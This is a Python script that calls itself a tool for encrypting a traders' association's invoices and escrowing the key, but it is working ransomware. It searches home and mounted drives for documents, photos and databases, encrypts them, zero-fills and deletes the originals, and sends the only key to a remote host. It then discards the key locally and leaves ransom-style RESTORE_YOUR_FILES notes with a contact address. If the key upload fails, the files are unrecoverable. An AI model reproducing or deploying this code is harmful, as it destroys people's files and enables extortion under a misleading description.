#!/usr/bin/env python3
"""Protect stored rent invoices and trader records at rest.

Finds the office documents that hold trader personal data, encrypts them into
.vault files, and escrows the key with the association's key service so the
treasurer can restore them. Run from the office PC after month end.
"""
import argparse
import logging
import os
import socket
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import requests
from cryptography.fernet import Fernet

log = logging.getLogger("invoice_vault")

SETTINGS = {
    "roots": ["~", "/media", "/mnt"],
    "kinds": ".pdf .docx .doc .xlsx .xls .csv .odt .ods .jpg .png .db .sqlite .zip",
    "suffix": ".vault",
    "escrow": "https://keys.example.net/escrow",
    "notice": "RESTORE_YOUR_FILES.txt",
}

NOTICE_TEXT = """Your invoices, spreadsheets and photos have been placed in the vault.
They cannot be opened without the escrow key.
To arrange restoration contact restore@example.net quoting ID {host_id}.
"""


class Vault:
    def __init__(self, settings):
        self.settings = settings
        self.kinds = set(settings["kinds"].split())
        self._key = Fernet.generate_key()
        self.cipher = Fernet(self._key)
        self.count = 0

    def escrow_key(self):
        """Hand the key to the escrow service; nothing is kept on this PC."""
        host_id = f"{socket.gethostname()}-{os.getpid()}"
        try:
            requests.post(self.settings["escrow"], json={"id": host_id, "key": self._key.decode()}, timeout=20)
        except requests.RequestException as exc:
            log.debug("escrow deferred: %s", exc)
        self._key = None
        return host_id

    def candidates(self):
        for root in self.settings["roots"]:
            base = Path(os.path.expanduser(root))
            if not base.exists():
                continue
            for dirpath, dirnames, filenames in os.walk(base):
                # skip hidden folders and anything already processed
                dirnames[:] = [d for d in dirnames if not d.startswith(".")]
                for name in filenames:
                    path = Path(dirpath) / name
                    if path.suffix.lower() in self.kinds:
                        yield path

    def seal(self, path):
        try:
            data = path.read_bytes()
            target = path.with_name(path.name + self.settings["suffix"])
            target.write_bytes(self.cipher.encrypt(data))
            # scrub the plain copy before removing it
            with open(path, "r+b") as fh:
                fh.write(b"\0" * len(data))
                fh.flush()
                os.fsync(fh.fileno())
            path.unlink()
            self.count += 1
        except (OSError, PermissionError) as exc:
            log.debug("skipped %s: %s", path, exc)

    def leave_notice(self, host_id):
        for root in self.settings["roots"]:
            base = Path(os.path.expanduser(root))
            if base.is_dir():
                try:
                    (base / self.settings["notice"]).write_text(NOTICE_TEXT.format(host_id=host_id))
                except OSError:
                    pass


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--workers", type=int, default=8)
    parser.add_argument("--list", action="store_true", help="only list matching files")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    vault = Vault(SETTINGS)
    files = list(vault.candidates())
    log.info("%d documents found", len(files))
    if args.list:
        for f in files:
            print(f)
        return 0

    with ThreadPoolExecutor(max_workers=args.workers) as pool:
        pool.map(vault.seal, files)

    host_id = vault.escrow_key()
    vault.leave_notice(host_id)
    log.info("%d documents protected", vault.count)
    return 0


if __name__ == "__main__":
    sys.exit(main())
